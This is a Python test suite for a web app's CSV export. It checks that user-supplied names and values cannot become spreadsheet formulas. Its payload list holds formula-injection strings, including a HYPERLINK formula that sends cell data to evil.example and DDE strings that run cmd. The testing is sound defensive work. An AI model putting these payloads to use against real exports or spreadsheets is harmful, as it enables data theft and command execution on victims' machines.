"""Tables that leave the house calculate nothing in whatever opens them."""

from __future__ import annotations

import ast
import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from accounts.models import User
from app.operations.views.usage import WAYS
from app.web.csv_export import safe, write_csv
from tests import factories
from tests.accounts.test_sum_usage import spend
from tests.attacks.parameters import ROOT, sources
from tests.conftest import SignIn

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    '"\n=1+1',
    "a,=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
]


def is_harmless(cell: str) -> bool:
    """Whether no program would take the cell for a formula: as it stands, or without what it would trim."""
    bare = cell.lstrip(" \u00a0\u200b\u200c\u200d\u2060\ufeff")
    return not bare.startswith(CALCULATED) and not cell.startswith(CALCULATED)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@given(st.text(max_size=6), st.sampled_from([*STARTS, ""]), st.text(max_size=12))
def test_no_text_becomes_a_formula(before: str, start: str, after: str) -> None:
    cell = f"{before.strip()}{start}{after}"
    assert is_harmless(str(safe(cell)))
    assert safe(cell) in (cell, f"'{cell}")


def test_formulas_stay_one_cell_each() -> None:
    written = cells(write_csv(FORMULAS, [FORMULAS, [1, -2.5, None]]))
    assert len(written) == 2 * len(FORMULAS) + 3
    assert all(is_harmless(cell) for cell in written[: 2 * len(FORMULAS)])
    assert written[-3:] == ["1", "-2.5", ""], "numbers stay numbers"


def test_the_export_of_usage_says_names_as_text(ada: User, signed_in: SignIn) -> None:
    for number, formula in enumerate(FORMULAS):
        group = factories.make_group(f"{formula.strip()[:60]}{number}")
        user = factories.make_user(f"user{number}", groups=[group])
        User.objects.filter(pk=user.pk).update(name=formula[:60])
        spend(user, model=formula[:60])
    for by in WAYS:
        text = signed_in(ada).get("/operations/usage.csv", {"by": by, "period": "year"}).content.decode()
        assert text.startswith(f"{by},")
        assert [cell for cell in cells(text) if not is_harmless(cell) and not is_number(cell)] == []


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_tables_are_written_in_one_place() -> None:
    """Whoever writes another table uses what quotes formulas."""
    writers = {
        str(path.relative_to(ROOT))
        for path, tree in sources().items()
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and _is_csv(node.value)
    }
    assert writers == {"app/web/csv_export.py"}


def _is_csv(node: ast.expr) -> bool:
    return isinstance(node, ast.Name) and node.id == "csv"
